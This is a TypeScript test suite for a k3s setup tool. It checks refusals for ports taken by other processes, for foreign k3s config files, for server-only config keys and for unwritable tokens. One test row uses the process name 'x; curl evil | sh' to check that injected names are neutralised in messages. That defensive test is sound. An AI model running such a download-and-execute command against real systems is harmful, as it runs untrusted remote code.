import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { configsLook, foreignFirst, portsLook } from "../lib/k3s/foreign.ts";
import type { Role } from "../lib/k3s/unit.ts";
import { SettingError, type Settings } from "../lib/settings.ts";
import { planAll, Refusal } from "../lib/step.ts";
import { prepareAs } from "../scripts/agent.ts";
import { serverSteps } from "../scripts/server.ts";
import { type Facts, MODERN, OLD, prepared, programs, shell, temporary, wanted } from "./helpers.ts";

/** The message with which a box is refused before any change; empty: it is not refused. */
function refused(
  role: Role,
  facts: Facts,
  over: Partial<Settings> = {},
  type: new (message?: string) => Error = Refusal,
): string {
  // A fresh box is no server of a known cluster.
  const token = role === "server" ? { K3S_TOKEN: "" } : {};
  const want = wanted({ K3S_VERSION: MODERN, ...token, ...over });
  try {
    const steps = role === "server" ? serverSteps : prepareAs("agent");
    planAll(steps, want, { ...prepared(want.K3S_VERSION), version: "", ...facts });
    return "";
  } catch (error) {
    assert.ok(error instanceof type, String(error));
    return error.message;
  }
}

const FACT = 'fact() { printf "fact %s\\n" "$1"; }\n';

describe("a port that k3s needs and another process uses", () => {
  const cases: [ports: string, role: Role, over: Partial<Settings>, message: RegExp | ""][] = [
    ["udp 51820 - wg0", "agent", {}, /^51820\/udp on this box, which k3s needs for WireGuard, is taken by its interface wg0: take that down, or .*wg set wg0 listen-port 51830/],
    ["udp 51820 - wg0", "server", { K3S_VERSION: OLD }, /51820\/udp .* interface wg0/],
    ["udp 51820 77 dnsmasq", "agent", {}, /51820\/udp .* taken by dnsmasq \(process 77\): stop it/],
    ["udp 51820 - ", "agent", {}, /51820\/udp .* something that does not show/],
    ["tcp 6443 812 kube-apiserver", "server", {}, /^6443\/tcp on this box, which k3s needs, is taken by kube-apiserver \(process 812\)/],
    ["tcp 6443 812 nginx\ntcp 10250 9 kubelet", "agent", {}, /^10250\/tcp .* kubelet \(process 9\)/],
    ["tcp 6443 812 nginx", "agent", {}, ""],
    ["tcp 10250 9 x; curl evil | sh", "agent", {}, /10250\/tcp .* a program \(process 9\)/],
    ["udp 51821 - wg1", "server", {}, ""],
    ["udp 51821 - wg1", "server", { SERVER_ARGS: "--cluster-cidr=10.42.0.0/16,fd42::/56" }, /^51821\/udp/],
    ["nonsense\nudp 51820", "server", {}, ""],
    ["", "server", {}, ""],
  ]; // biome-ignore format: a table
  for (const [ports, role, over, message] of cases)
    test(`is ${message ? "refused before any change" : "accepted"} on a box that becomes ${role === "agent" ? "an agent" : "a server"}${over.SERVER_ARGS ? " with IPv6" : ""}: ${JSON.stringify(ports)}`, () => {
      const said = refused(role, { ports }, over);
      if (message) assert.match(said, message);
      else assert.equal(said, "");
    });

  /** What the look prints if ss, wg and ip print this, ss something else a second later, and processes are in these cgroups. */
  function seen(ss: string, wg: string, ip = "", cgroups: Record<string, string> = {}, later = ss): string {
    const dir = temporary();
    const print = (text: string) => (text ? `cat <<'END'\n${text}\nEND` : "exit 1");
    const PATH = programs(join(dir, "bin"), {
      ss: `if [ -e ${dir}/later ]; then\n${print(later)}\nelse\n${print(ss)}\nfi`,
      sleep: `[ "$1" = 1 ] && : >${dir}/later`,
      wg: print(wg),
      ip: print(ip),
    });
    for (const [pid, cgroup] of Object.entries(cgroups)) {
      mkdirSync(join(dir, pid));
      writeFileSync(join(dir, pid, "cgroup"), cgroup);
    }
    return shell(`${FACT}PATH=${PATH}\n${portsLook.replaceAll("/proc/", `${dir}/`)}`).stdout;
  }
  const HEAD = "Netid State Recv-Q Send-Q Local Address:Port Peer Address:Port Process";
  const WG = "udp UNCONN 0 0 0.0.0.0:51820 0.0.0.0:*\nudp UNCONN 0 0 [::]:51820 [::]:*";
  const looks: [what: string, said: string, expected: string][] = [
    ["that of the kernel's WireGuard", seen(`${HEAD}\n${WG}`, "wg0\t51820\nwg1\t51999"), "udp 51820 - wg0\n"],
    ["that of the kernel's WireGuard, without wg", seen(`${HEAD}\n${WG}`, "", "5: wg0: <POINTOPOINT> mtu 1420"), "udp 51820 - wg0\n"],
    ["a WireGuard port of an unknown interface", seen(`${HEAD}\n${WG}`, ""), "udp 51820 - \n"],
    ["flannel's own, which is accepted", seen(`${HEAD}\n${WG}`, "flannel-wg\t51820"), ""],
    ["old flannel's own, which is accepted", seen(`${HEAD}\n${WG}`, "flannel.1\t51820"), ""],
    ["flannel's own, without wg, which is accepted", seen(`${HEAD}\n${WG}`, "", "5: flannel-wg: <POINTOPOINT> mtu 1420"), ""],
    [
      "that of wireguard-go, with its interface",
      seen(`${HEAD}\n${WG.split("\n")[0]} users:(("wireguard-go",pid=41,fd=9))`, "wg0\t51820", "", { 41: "0::/system.slice/wg.service" }),
      "udp 51820 - wg0\n",
    ],
    [
      "that of a program, in the format of CentOS 7",
      seen(`tcp    LISTEN     0      128       *:6443                  *:*                   users:(("nginx",pid=12,fd=6),("nginx",pid=11,fd=6))`, "", "", { 12: "3:cpu:/\n1:name=systemd:/system.slice/nginx.service" }),
      "tcp 6443 12 nginx\n",
    ],
    ["one at another address", seen(`tcp LISTEN 0 5 127.0.0.1:10250 0.0.0.0:* users:(("my kubelet",pid=7,fd=3))`, "", "", { 7: "0::/user.slice" }), "tcp 10250 7 my kubelet\n"],
    ["one whose process has ended since, which is accepted", seen(`tcp LISTEN 0 5 *:10250 *:* users:(("k3s-agent",pid=7,fd=3))`, "", "", {}, HEAD), ""],
    ["one whose process ended while ss searched for it, and was restarted since, which is accepted", seen("tcp LISTEN 0 5 *:10250 *:*", "", "", { 8: "0::/system.slice/k3s-agent.service" }, `tcp LISTEN 0 5 *:10250 *:* users:(("k3s-agent",pid=8,fd=3))`), ""],
    ["the one of two that is still in use", seen(`tcp LISTEN 0 5 *:6443 *:* users:(("x",pid=6,fd=3))\ntcp LISTEN 0 5 *:10250 *:*`, "", "", {}, `tcp LISTEN 0 5 *:6443 *:* users:(("x",pid=6,fd=3))`), "tcp 6443 6 x\n"],
    [
      "k3s's own and another port, which are accepted",
      seen(`tcp LISTEN 0 4096 *:6443 *:* users:(("k3s-server",pid=12,fd=6))\ntcp LISTEN 0 4096 *:10250 *:* users:(("k3s-agent",pid=13,fd=6))\ntcp LISTEN 0 4096 *:16443 *:* users:(("x",pid=14,fd=6))`, "", "", {
        12: "0::/system.slice/k3s.service",
        13: "1:name=systemd:/system.slice/k3s-agent.service/x",
      }),
      "",
    ],
  ]; // biome-ignore format: a table
  for (const [what, said, expected] of looks)
    test(`is detected: ${what}`, () => assert.equal(said, `fact ports\n${expected}`));
});

describe("a k3s config file that this project did not write", () => {
  const PATH = "/etc/rancher/k3s/config.yaml";
  const of = (text: string, path = PATH) => ({ configs: `${Buffer.from(text).toString("base64")} ${path}` });
  const cases: [text: string, role: Role, over: Partial<Settings>, message: RegExp | ""][] = [
    ["server: https://203.0.113.9:6443", "agent", {}, /^\/etc\/rancher\/k3s\/config\.yaml on this box, which k3s reads too, has server, expected it in K3S_URL; take the key out/],
    ["server: https://203.0.113.9:6443", "server", {}, /has server, expected it in K3S_URL/],
    ["node-name: other", "agent", {}, /has node-name, expected it in SERVER_ARGS or AGENT_ARGS/],
    ["node-name: A1", "agent", {}, ""],
    ["node-name: other", "agent", { AGENT_ARGS: "--node-name=other" }, ""],
    ["token: hunter2", "agent", {}, /has token, expected it in K3S_TOKEN/],
    ["token: hunter2", "server", {}, ""],
    ["data-dir: /data", "server", {}, /has data-dir: k3s's data are looked for in \/var\/lib\/rancher\/k3s/],
    ["{data-dir: /data}", "agent", {}, /has data-dir/],
    ["node-ip: 10.0.0.1", "agent", {}, /has node-ip: PUBLIC_IP/],
    ["cluster-cidr: 10.1.0.0/16", "server", {}, /has cluster-cidr, expected it in SERVER_ARGS/],
    ["flannel-backend: none", "server", {}, /has flannel-backend: flannel's backend is WireGuard here/],
    ["kubelet-arg+:\n- root-dir=/data", "agent", {}, /has kubelet-arg: the kubelet's data/],
    ["disable: traefik", "agent", {}, /has disable: only servers know it, and an agent ends at it/],
    ["write-kubeconfig-mode: '0644'", "agent", {}, /has write-kubeconfig-mode: only servers/],
    ["disable: traefik\nwrite-kubeconfig-mode: '0644'\nnode-label:\n- a=b\nkubelet-arg: max-pods=50", "server", {}, ""],
    ["node-label: a=b\nsnapshotter: native", "agent", {}, ""],
    ["a: [", "agent", {}, /^\/etc\/rancher\/k3s\/config\.yaml on this box is no config file that k3s can read: .*; mend it/],
    ["- a", "server", {}, /no mapping/],
    ["data-dir: /data", "server", { K3S_VERSION: OLD }, ""],
    ["# nothing", "server", {}, ""],
  ]; // biome-ignore format: a table
  for (const [text, role, over, message] of cases)
    test(`is ${message ? "refused with its name before any change" : "accepted"} on ${role === "agent" ? "an agent" : "a server"}${over.K3S_VERSION ? " that does not read it" : ""}: ${JSON.stringify(text)}`, () => {
      const said = refused(role, of(text), over);
      if (message) assert.match(said, message);
      else assert.equal(said, "");
      assert.doesNotMatch(said, /hunter2/);
    });

  test("is read from both places, whatever it contains, except this project's own", () => {
    const dir = temporary();
    mkdirSync(join(dir, "config.yaml.d"));
    const files = { "config.yaml": "a: 1\nfact x\n", "config.yaml.d/b c.YML": "b: 'é'\n", "config.yaml.d/no.txt": "c: 1" };
    for (const [name, text] of Object.entries({ ...files, "config.yaml.d/across-clouds.yaml": "d: 1" }))
      writeFileSync(join(dir, name), text);
    const { stdout } = shell(FACT + configsLook(dir));
    const facts = { configs: stdout.replace("fact configs\n", "").replaceAll(dir, "/etc/rancher/k3s") };
    assert.deepEqual(
      facts.configs.trim().split("\n").map((line) => [line.replace(/^\S+ .*\//, ""), Buffer.from(line.split(" ")[0] as string, "base64").toString()]),
      [["config.yaml", files["config.yaml"]], ["b c.YML", files["config.yaml.d/b c.YML"]]],
    );
    const [at] = (refused("agent", { configs: facts.configs.replace(/^.*\n/, `${Buffer.from("data-dir: /x").toString("base64")} /etc/rancher/k3s/config.yaml.d/b c.YML\n`) }) || "").split(" on this box");
    assert.equal(at, "/etc/rancher/k3s/config.yaml.d/b c.YML");
  }); // biome-ignore format: short
});

describe("K3S_CONFIG", () => {
  const text = "disable: traefik\nkubelet-arg: max-pods=50";
  test("with keys that only servers accept is refused for an agent, which would exit because of them", () => {
    assert.match(
      refused("agent", {}, { K3S_CONFIG: text, SERVER: "root@a1" }, SettingError),
      /^K3S_CONFIG of this box has disable: only servers know it, .*K3S_CONFIG__a1=…/,
    );
    for (const more of [
      "tls-san: x",
      "etcd-s3: true",
      "service-node-port-range: 1-2",
      "kube-apiserver-arg: v=2",
    ])
      assert.match(refused("agent", {}, { K3S_CONFIG: more }, SettingError), /only servers know it/, more);
  });

  test("is accepted with these keys for a server, and without them for both", () => {
    assert.equal(refused("server", {}, { K3S_CONFIG: text }), "");
    for (const role of ["server", "agent"] as const)
      assert.equal(refused(role, {}, { K3S_CONFIG: "kubelet-arg: max-pods=50\ndebug: true" }), "");
  });
});

test("a server whose token cannot be written to the env file is refused before any change", () => {
  const token = (password: string) => ({ token: `K10${"ab".repeat(32)}::server:${password}\n` });
  for (const password of ["changeme!", "a:b", "x y"]) assert.equal(refused("server", token(password)), "");
  for (const password of ["#'\"`", "x ", ""])
    assert.match(
      refused("server", token(password), {}, SettingError),
      /^K3S_TOKEN \(this server's own\): expected /,
    );
  assert.equal(refused("agent", token("x ")), "");
});

test("a box without other programs and config files needs no change for them", () =>
  assert.deepEqual(foreignFirst("server").plan(wanted(), prepared(MODERN)), []));
